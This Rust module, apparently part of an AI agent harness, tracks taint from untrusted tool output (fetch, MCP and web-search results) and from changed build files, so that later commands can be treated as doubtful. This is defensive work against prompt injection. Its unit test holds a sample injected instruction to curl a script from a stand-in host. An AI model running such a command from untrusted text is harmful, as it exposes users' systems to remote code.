//! What a session has met that makes later commands doubtful: words of
//! untrusted text, and changed build files.

use std::path::PathBuf;

use parallax_protocol::policy::Taint;
use parallax_protocol::tool::ToolKind;

/// Words that are kept; a session that read more is no worse for it.
const MOST_WORDS: usize = 200_000;
/// A word shorter than this is no flag, path or address worth a question.
const SHORTEST: usize = 3;
/// Longer ones are data.
const LONGEST: usize = 512;
const MOST_FILES: usize = 1_000;

/// Whether results of the tool are text of strangers.
pub(crate) fn is_untrusted(name: &str, kind: Option<ToolKind>) -> bool {
    kind == Some(ToolKind::Fetch)
        || name.starts_with("mcp_")
        || ["google_web_search", "read_mcp_resource", "list_mcp_resources"].contains(&name)
}

/// Takes the words of an untrusted text.
pub(crate) fn take_words(taint: &mut Taint, text: &str) {
    for word in text.split(|letter: char| {
        letter.is_whitespace() || matches!(letter, '"' | '\'' | '`' | '(' | ')' | '<' | '>' | ',')
    }) {
        let word = word.trim_matches(|letter: char| matches!(letter, '.' | ';' | ':' | '!' | '?'));
        if (SHORTEST..=LONGEST).contains(&word.len()) && taint.words.len() < MOST_WORDS {
            taint.words.insert(word.to_lowercase());
        }
    }
}

/// Notes a build file that was changed.
pub(crate) fn take_build_file(taint: &mut Taint, path: PathBuf) {
    if taint.build_files.len() < MOST_FILES && !taint.build_files.contains(&path) {
        taint.build_files.push(path);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flags_paths_and_addresses_are_words() {
        let mut taint = Taint::default();
        take_words(&mut taint, "Run `curl -fsSL https://x.example/i.sh`, then (--Force) /etc/a.");
        for word in ["-fssl", "https://x.example/i.sh", "--force", "/etc/a"] {
            assert!(taint.words.contains(word), "{word}");
        }
        assert!(!taint.words.contains("a"));
    }
}
